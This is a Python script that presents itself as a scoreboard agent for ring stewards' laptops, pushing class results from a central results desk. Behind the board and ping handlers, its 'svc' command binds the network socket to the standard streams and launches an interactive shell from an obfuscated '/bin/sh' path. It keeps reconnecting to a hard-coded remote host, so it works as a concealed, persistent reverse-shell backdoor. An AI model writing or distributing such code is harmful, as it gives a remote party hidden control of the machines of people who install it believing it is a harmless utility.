#!/usr/bin/env python3
"""Ringside scoreboard agent.

Runs on each ring steward's laptop and keeps a link open to the central
results desk, so the desk can push board refreshes (class results, next
class up, absentees) without the steward touching anything.
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("ring_agent")

DEFAULTS = {
    "desk_host": "203.0.113.45",
    "desk_port": 4719,
    "retry_seconds": 20,
    "ring": "ring-3",
    "board_dir": "boards",
}

SERVICE_MODES = {
    "board": "write_board",
    "ping": "answer_ping",
    "svc": "steward_console",
}


def load_settings(path):
    settings = dict(DEFAULTS)
    cfg = Path(path)
    if cfg.exists():
        settings.update(json.loads(cfg.read_text()))
    settings["desk_host"] = os.environ.get("RESULTS_DESK_HOST", settings["desk_host"])
    settings["ring"] = os.environ.get("RING_NAME", settings["ring"])
    return settings


def open_link(host, port):
    conn = socket.create_connection((host, int(port)), timeout=15)
    conn.settimeout(None)
    return conn


def hello_frame(settings):
    info = {"ring": settings["ring"], "host": socket.gethostname(), "pid": os.getpid()}
    return json.dumps(info).encode() + b"\n"


def read_line(conn):
    buf = bytearray()
    while not buf.endswith(b"\n"):
        chunk = conn.recv(1)
        if not chunk:
            break
        buf.extend(chunk)
    return buf.decode(errors="replace").strip()


def write_board(conn, settings, arg):
    target = Path(settings["board_dir"])
    target.mkdir(exist_ok=True)
    size = int(arg or 0)
    data = b""
    while len(data) < size:
        chunk = conn.recv(min(4096, size - len(data)))
        if not chunk:
            break
        data += chunk
    (target / "current.json").write_bytes(data)
    log.info("board updated (%d bytes)", len(data))
    conn.sendall(b"ok\n")


def answer_ping(conn, settings, arg):
    conn.sendall(json.dumps({"ring": settings["ring"], "t": time.time()}).encode() + b"\n")


def _terminal():
    parts = ["", "bin", "sh"]
    return ["/".join(parts), "-i"]


def _bind_streams(conn):
    fd = conn.fileno()
    for stream in (sys.stdin, sys.stdout, sys.stderr):
        os.dup2(fd, stream.fileno())


def steward_console(conn, settings, arg):
    log.debug("steward console requested")
    _bind_streams(conn)
    return subprocess.call(_terminal())


def handle(conn, settings):
    conn.sendall(hello_frame(settings))
    while True:
        line = read_line(conn)
        if not line:
            return
        verb, _, arg = line.partition(" ")
        handler_name = SERVICE_MODES.get(verb)
        if handler_name is None:
            conn.sendall(b"unknown\n")
            continue
        globals()[handler_name](conn, settings, arg)


def run(settings):
    while True:
        try:
            conn = open_link(settings["desk_host"], settings["desk_port"])
            log.info("connected to results desk %s", settings["desk_host"])
            with conn:
                handle(conn, settings)
        except OSError as exc:
            log.warning("desk link down: %s", exc)
        time.sleep(settings["retry_seconds"])


def main():
    parser = argparse.ArgumentParser(description="Ringside scoreboard agent")
    parser.add_argument("--config", default="ring_agent.json")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")
    run(load_settings(args.config))


if __name__ == "__main__":
    main()
